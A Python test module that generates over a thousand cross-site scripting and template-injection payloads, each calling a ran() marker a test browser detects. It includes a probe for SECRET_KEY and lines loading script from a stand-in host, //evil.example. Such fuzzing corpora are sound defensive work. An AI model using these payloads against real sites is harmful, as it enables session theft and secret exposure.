"""What people have typed to make a page run something: families of them, spelled out to more than a thousand.

Each calls ``ran()``, which the test's browser listens for; quotes and comments in front break out of where the text may stand.
"""

from collections.abc import Iterator
from itertools import product

CALL = "ran()"
OUT = [
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "]]>",
    "</option></select>",
    '"/><',
    "*/",
    "`>",
]
EVENTS = ["onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbegin",
          "oncontentvisibilityautostatechange", "onbeforetoggle", "oninput"]  # fmt: skip
ELEMENTS = ["img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "audio src=x", "iframe", "marquee",
            "object data=x", "button popovertarget=x", "x tabindex=1 id=x", "math", "style", "a href=#", "select autofocus",
            "textarea autofocus", "form", "isindex", "embed src=x"]  # fmt: skip
URLS = ["javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "java&Tab;script:ran()", "&#106;avascript:ran()",
        "\x01javascript:ran()", "javascript://%0aran()", "data:text/html,<script>parent.ran()</script>",
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=", "vbscript:ran()", "//evil.example/x.js",
        "javascript&colon;ran()"]  # fmt: skip
PLACES = ["a href", "iframe src", "form action", "button formaction", "object data", "embed src", "area href", "base href",
          "link rel=import href", "meta http-equiv=refresh content=0;url", "svg><a xlink:href", "math href", "script src",
          "link rel=stylesheet href", "body background", "input type=image src"]  # fmt: skip
WHOLE = """\
<script>ran()</script>
<SCRIPT>ran()</SCRIPT>
<script/x>ran()</script>
<script>ran()
<scr<script>ipt>ran()</scr</script>ipt>
<script src=data:,ran()></script>
<svg><script>ran()</script></svg>
<svg><script>ran&#40;&#41;</script></svg>
<script type=module>ran()</script>
<noscript><p title='</noscript><img src=x onerror=ran()>'>
<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran()&gt;'>
<iframe srcdoc='<script>parent.ran()</script>'></iframe>
<template><script>ran()</script></template>
<svg><animate onbegin=ran() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:ran()>
<style>@import 'javascript:ran()';</style>
<img src='x' style='animation-name:x' onanimationstart='ran()'>
<svg><foreignObject><script>ran()</script></foreignObject></svg>
<xss style=behavior:url(x)>
<![CDATA[<script>ran()</script>]]>
<?xml-stylesheet href=javascript:ran()?>
<!--><script>ran()</script>
<link rel=prefetch href=//evil.example>
<form id=x><input name=parentNode onfocus=ran() autofocus>
<base href=//evil.example/>
<plaintext>
<title><img src=x onerror=ran()>
""".splitlines()
TEMPLATES = """\
{{ran()}}
{{constructor.constructor('ran()')()}}
${ran()}
#{ran()}
<%= ran() %>
{% debug %}
{%load log%}
{{ settings.SECRET_KEY }}
{{ request.user }}
{{7*7}}
${{7*7}}
@(ran())
[[ran()]]
{php}ran(){/php}
{% include 'x' %}
{{''.__class__.__mro__}}
<div v-html="'<img src=x onerror=ran()>'">
<div ng-app>{{ran()}}</div>
<div hx-get=/ hx-trigger=load hx-on::after-request=ran()>
<div x-data x-init=ran()>
""".splitlines()
IN_STRINGS = """\
';ran();//
";ran();//
\\';ran();//
\\u0027;ran()//
'-ran()-'
"-ran()-"
`${ran()}`
</script><script>ran()</script>
'><img src=x onerror=ran()>
\\x3cimg src=x onerror=ran()\\x3e
""".splitlines()
SPACES = [" ", "/", "\n", "\t", "\x0c", "/x/"]


def spelled(payload: str) -> Iterator[str]:
    """The same in other letters: entities, percent signs, full width, a null, UTF-7 and an overlong slash."""
    yield payload.replace("<", "&lt;").replace(">", "&gt;")
    yield payload.replace("<", "&#60;").replace(">", "&#x3e")
    yield payload.replace("<", "%3C").replace(">", "%3E").replace('"', "%22")
    yield payload.replace("<", "\uff1c").replace(">", "\uff1e")
    yield payload.replace("<", "\u003c\u200b", 1)
    yield payload.replace("<", "+ADw-").replace(">", "+AD4-")
    yield payload.swapcase().replace("RAN", "ran")


def _all() -> Iterator[str]:
    yield from WHOLE
    yield from TEMPLATES
    yield from IN_STRINGS
    yield from ("<script\n>ran()</script\n>", "\u2028ran()")
    for out, payload in product(OUT[1:], WHOLE[:8]):
        yield out + payload
    for number, (event, element) in enumerate(product(EVENTS, ELEMENTS)):
        yield f"{OUT[number % len(OUT)]}<{element}{SPACES[number % len(SPACES)]}{event}={CALL}>"
    for number, (place, url) in enumerate(product(PLACES, URLS)):
        yield f'{OUT[number % len(OUT)]}<{place}="{url}">x'
    for event, quote in product(EVENTS, ('"', "'", "")):
        yield f"x{quote} {event}={quote}{CALL}{quote} autofocus tabindex=1 x={quote}"
        yield f"x{quote} style=x {event}={CALL}//"
    for payload in WHOLE[:20]:
        yield from spelled(payload)
    for event, element in product(EVENTS[:6], ELEMENTS[:7]):
        yield from spelled(f'"><{element} {event}={CALL}>')


PAYLOADS = [one for one in dict.fromkeys(_all()) if "\x00" not in one]
